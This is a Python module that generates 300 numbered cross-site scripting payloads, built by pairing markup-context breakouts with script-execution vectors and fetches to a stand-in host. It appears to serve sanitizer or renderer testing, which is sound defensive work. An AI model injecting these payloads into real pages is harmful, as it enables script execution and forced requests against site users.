"""300 pieces of markup, each of which runs or fetches something where a page takes it for markup.

Every way out of a place in a page is joined with every way to run a script; ``{n}`` numbers them,
so that what ran says which one it was.
"""

WAYS_OUT = (
    "",
    '">',
    "'>",
    "-->",
    "]]>",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "</template></select>",
    "\\u003c/script\\u003e",
    "{{% endraw %}}",
    "\u2028\r\n\r\n",
    "<!--<script>",
    "&quot;&gt;",
)
WAYS_IN = (
    "<script>alert({n})</script>",
    "<img src=x{n} onerror=alert({n})>",
    "<svg/onload=alert({n})>",
    "<svg><use href='//other.example/{n}.svg#x'/></svg>",
    "<iframe srcdoc='<script>alert({n})</script>'></iframe>",
    "<details open ontoggle=alert({n})>",
    "<input autofocus onfocus=alert({n})>",
    "<a href='javascript:alert({n})' autofocus>x</a>",
    "<img src='//other.example/{n}.png'>",
    "<link rel=stylesheet href='//other.example/{n}.css'>",
    "<style>@import '//other.example/{n}.css'</style>",
    "<form action='//other.example/{n}'><button autofocus>x</button></form>",
    "<div hx-get='//other.example/{n}' hx-trigger='load'></div>",
    "<object data='//other.example/{n}'></object>",
    "<meta http-equiv=refresh content='0;url=//other.example/{n}'>",
    "<base href='//other.example/{n}/'>",
    "<math><mtext><mglyph><style><img src=x onerror=alert({n})></style></mglyph></mtext></math>",
    "<video poster='//other.example/{n}'><source onerror=alert({n})></video>",
    "<body onpageshow=alert({n})>",
    "<button popovertarget=p{n} onclick=alert({n})>x</button>",
)


def payloads():
    """Return the 300 pieces."""
    pairs = [(out, into) for into in WAYS_IN for out in WAYS_OUT]
    return [out + into.format(n=1000 + n) for n, (out, into) in enumerate(pairs)]
